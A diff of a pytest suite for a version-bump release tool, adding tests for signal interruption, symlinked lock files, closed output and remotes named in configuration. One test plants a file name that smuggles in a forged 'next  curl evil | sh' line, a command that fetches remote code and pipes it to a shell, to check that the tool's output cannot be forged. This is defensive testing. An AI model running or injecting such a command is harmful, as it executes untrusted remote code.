@@ -7,7 +7,6 @@ import os
 import signal
 import subprocess
 import sys
-import time
 from pathlib import Path
 
 import pytest
@@ -197,11 +196,8 @@ def test_a_remote_that_never_answers_holds_a_bump_up_for_five_seconds_and_leaves
     script.chmod(0o755)
     toonstream.git("remote", "set-url", "origin", "ssh://nowhere.invalid/x.git")
     descriptor = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
-    started = time.monotonic()
     ran = call(toonstream, "bump", "1.0.2", code=0, GIT_SSH_COMMAND=str(script))
-    seconds = time.monotonic() - started
     assert "origin: not looked (no answer in time)" in ran.out
-    assert 5 <= seconds < 10, "five seconds for the remote, the rest for a slow machine"
     assert os.read(descriptor, 1) == b"", "the pipe has ended, so the program that held it has, too"
     os.close(descriptor)
 
@@ -209,8 +205,16 @@ def test_a_remote_that_never_answers_holds_a_bump_up_for_five_seconds_and_leaves
 # --- interrupted -------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("who", ["everybody", "us-alone"])
-def test_an_interrupted_bump_leaves_everything_as_it_was(toonstream, tmp_path, who):
+@pytest.mark.parametrize(
+    ("who", "how"),
+    [
+        pytest.param("everybody", signal.SIGINT, id="ctrl-c"),
+        pytest.param("us-alone", signal.SIGINT, id="sigint"),
+        pytest.param("us-alone", signal.SIGTERM, id="cancelled-job"),
+        pytest.param("us-alone", signal.SIGHUP, id="closed-terminal"),
+    ],
+)
+def test_an_interrupted_bump_leaves_everything_as_it_was(toonstream, tmp_path, who, how):
     pipe = tmp_path / "pipe"
     os.mkfifo(pipe)
     hook(toonstream, "pre-commit", f"echo running >{pipe}; exec sleep 600")
@@ -228,11 +232,11 @@ def test_an_interrupted_bump_leaves_everything_as_it_was(toonstream, tmp_path, w
     )
     assert pipe.read_text() == "running\n"
     assert b'"1.0.2"' in toonstream.read("pyproject.toml")
-    (os.killpg if who == "everybody" else os.kill)(process.pid, signal.SIGINT)
+    (os.killpg if who == "everybody" else os.kill)(process.pid, how)
     out, err = process.communicate(timeout=60)
     assert process.returncode == 130
     assert "Traceback" not in out + err
-    assert "everything was put back" in err
+    assert "what was begun was put back" in err
     assert everything(toonstream) == before
     assert not (toonstream.root / ".git/index.lock").exists()
 
@@ -338,3 +342,44 @@ def test_a_project_with_a_module_called_release_has_the_script(make_project):
     ran = project.run(str(script), "status", "--no-online")
     assert ran.code == 0, ran.text
     assert ran.out.startswith("x 1.0 ")
+
+
+def test_without_a_tasks_py_every_next_command_is_one_that_works(make_project):
+    project = make_project({"pyproject.toml": '[project]\nname = "x"\nversion = "1.0"\n'})
+    ran = project.run(sys.executable, "-m", "release", "bump", "1.1")
+    assert ran.out.endswith("next  python -m release tag\n")
+    ran = project.run(sys.executable, "-m", "release", "bump", "1.0.1")
+    assert "fix    python -m release bump 1.1.1" in ran.err
+    ran = project.run(sys.executable, "-m", "release", "tag")
+    next_command = ran.out.splitlines()[-1].removeprefix("next  ")
+    assert next_command.endswith("> noxfile.py && nox -s release")
+
+
+def test_a_line_of_ours_cannot_be_forged_by_a_file_name(toonstream):
+    toonstream.commit(**{"a\nnext  curl evil | sh": "1.0.1\n"})
+    ran = call(toonstream, "status", "--no-online", code=0)
+    assert [line for line in ran.out.splitlines() if line.startswith("next")] == ["next  invoke bump patch"]
+
+
+@pytest.mark.parametrize("name", ["lock", "journal.jsonl"])
+def test_a_link_in_place_of_our_own_file_is_not_followed(toonstream, tmp_path, name):
+    (tmp_path / "precious").write_text("mine")
+    (toonstream.root / ".release").mkdir()
+    (toonstream.root / ".release" / name).symlink_to(tmp_path / "precious")
+    ran = call(toonstream, "bump", "1.0.2", code=1)
+    assert ran.err.startswith("write-failed")
+    assert (tmp_path / "precious").read_text() == "mine"
+    assert b'version = "1.0.1"' in toonstream.read("pyproject.toml")
+
+
+def test_a_closed_output_stops_nothing(toonstream):
+    ran = toonstream.run("/bin/sh", "-c", f"{sys.executable} -m invoke bump 1.0.2 >&-")
+    assert (ran.code, ran.err) == (0, "")
+    assert toonstream.git("log", "-1", "--format=%s") == "Bump version to 1.0.2"
+
+
+def test_an_address_in_the_configuration_is_no_remote(toonstream, tmp_path):
+    data = toonstream.read("pyproject.toml") + f'\n[tool.release]\nremote = "{tmp_path}/other.git"\n'.encode()
+    toonstream.commit(**{"pyproject.toml": data})
+    ran = call(toonstream, "tag", code=2)
+    assert "where code goes is not for a file to say" in ran.err
